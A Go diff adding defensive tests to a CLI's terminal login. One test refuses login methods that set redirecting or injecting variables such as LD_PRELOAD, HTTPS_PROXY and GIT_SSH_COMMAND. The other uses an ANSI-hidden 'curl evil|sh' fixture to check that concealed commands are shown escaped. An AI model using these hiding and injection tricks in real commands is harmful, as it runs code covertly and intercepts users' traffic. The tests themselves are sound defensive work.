@@ -47,3 +47,45 @@ func TestLoginInTerminalGuards(t *testing.T) {
 		})
 	}
 }
+
+// TestLoginRefusesRedirectingEnv: a terminal login method that sets a
+// variable opening a program of the agent's choosing, or sending the
+// login's connections through its servers, is refused, named.
+func TestLoginRefusesRedirectingEnv(t *testing.T) {
+	marker := filepath.Join(t.TempDir(), "ran")
+	p := registry.ProviderStatus{ID: "fake", Path: "/bin/sh", Command: []string{"sh"}}
+	for _, k := range []string{"BROWSER", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "GIT_SSH_COMMAND", "GIT_SSH", "SSL_CERT_FILE", "SSL_CERT_DIR", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONPATH", "GIT_CONFIG_GLOBAL", "EDITOR"} {
+		var out bytes.Buffer
+		c := &cli{stdin: strings.NewReader("y\n"), stdout: &out, stderr: &out, inTTY: true}
+		m := backends.AuthMethod{ID: "t", Name: "T", Type: backends.AuthTerminal,
+			Args: []string{"-c", "touch " + marker}, Env: map[string]string{k: "x"}}
+		err := c.loginInTerminal(context.Background(), nil, p, m, true)
+		if err == nil || !strings.Contains(err.Error(), k) || !strings.Contains(err.Error(), "refused") {
+			t.Errorf("login with %s set = %v; want it refused, named", k, err)
+		}
+		if _, serr := os.Stat(marker); serr == nil {
+			t.Fatalf("the agent's command ran with %s set", k)
+		}
+	}
+}
+
+// TestLoginShowsCommandEscaped: the command a terminal login method
+// offers is shown before "Run it?" with its control characters escaped,
+// so that no part of it is hidden.
+func TestLoginShowsCommandEscaped(t *testing.T) {
+	p := registry.ProviderStatus{ID: "fake", Path: "/bin/sh", Command: []string{"sh"}}
+	m := backends.AuthMethod{ID: "t", Name: "Log" + seqTitle, Type: backends.AuthTerminal,
+		Args: []string{"-c", "\u001b[8m; curl evil|sh\u001b[0m"}, Env: map[string]string{"FAKE_LOGIN": "1" + seqHidden}}
+	var out bytes.Buffer
+	c := &cli{stdin: strings.NewReader("n\n"), stdout: &out, stderr: &out}
+	if err := c.loginInTerminal(context.Background(), nil, p, m, false); err == nil {
+		t.Fatal("the login ran without a yes")
+	}
+	got := out.String()
+	if strings.Contains(got, "\x1b") {
+		t.Errorf("the command was shown raw:\n%q", got)
+	}
+	if !strings.Contains(got, "'^[[8m; curl evil|sh^[[0m'") || !strings.Contains(got, "FAKE_LOGIN='1^[[8m'") {
+		t.Errorf("the command's hidden part is not shown:\n%s", got)
+	}
+}
